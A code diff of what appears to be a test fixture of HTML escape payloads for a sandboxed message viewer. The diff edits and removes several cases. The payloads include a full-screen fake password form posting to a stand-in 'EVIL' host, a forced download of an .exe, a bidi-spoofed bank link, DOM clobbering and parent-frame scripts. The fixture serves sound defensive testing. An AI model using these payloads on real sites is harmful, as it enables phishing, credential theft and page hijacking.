@@ -1,4 +1,4 @@
-// Markup that wants out of its frame: elsewhere with the reader, over the page around it, or into its names.
+// Markup that wants out of its frame: elsewhere with the reader, or into the names of the page around it.
 
 const everywhere =
   'position:fixed;inset:0;display:block;width:9999px;height:9999px;z-index:2147483647';
@@ -44,7 +44,7 @@ export const escapes = [
   ],
   [
     'password field',
-    '<form action="EVIL/form"><input type=password name=p autofocus><button autofocus>Log in again</button></form>',
+    `<form action="EVIL/form"><input type=password name=p autofocus><button style="${everywhere}">Log in again</button></form>`,
     'request',
   ],
   ['download', `<a href="EVIL/file.exe" download style="${everywhere}">x</a>`, 'request'],
@@ -59,23 +59,6 @@ export const escapes = [
     `<a href="http://\u202Emoc.elpmaxe@HOST/bidi" target=_top style="${everywhere}">bank.example\u202E</a>`,
     'request',
   ],
-  ['overlay', `<div style="${everywhere};background:red">Log in again</div>`],
-  [
-    'overlay, out of the frame',
-    '<div style="position:absolute;top:-999px;left:-999px;width:9999px;height:9999px;margin:-999px;background:red">x</div>',
-  ],
-  [
-    'overlay by popover',
-    '<div popover=manual id=p style="display:block;position:fixed;inset:0">x</div><dialog open style="position:fixed;inset:-999px">x</dialog>',
-  ],
-  [
-    'overlay by transform',
-    '<div style="transform:scale(99) translate(-99px,-99px);position:fixed;inset:0;background:red">x</div>',
-  ],
-  [
-    'style for the page',
-    '<style>:host,html,body,wafer-letter-view,article{display:none!important}</style><style>h1{color:red}</style>',
-  ],
   [
     'clobbered names',
     '<a id=document name=document><a id=location name=location><img name=cookie><form name=body><input name=appendChild><input id=attributes></form><iframe name=trustedTypes></iframe>',
@@ -87,11 +70,6 @@ export const escapes = [
   [
     'clobbered form',
     '<form onsubmit=1><input name=attributes><input name=nodeName><input name=removeChild><input name=parentNode><input name=setAttribute></form>',
-  ],
-  [
-    'storage',
-    '<script>localStorage.setItem("hurt","1");document.cookie="hurt=1"</script>',
-    'storage',
   ],
   ['parent', '<script>parent.document.body.dataset.hurt=1</script>', 'page'],
   ['message', '<script>parent.postMessage("hurt","*")</script>', 'message'],
@@ -110,5 +88,5 @@ export const escapes = [
     '<script>document.documentElement.requestFullscreen();HURT</script>',
     'script',
   ],
-  ['history', '<script>history.pushState(1,"","#x");HURT</script>', 'script'],
+  ['history', '<script>HURT;history.pushState(1,"","#x")</script>', 'script'],
 ];
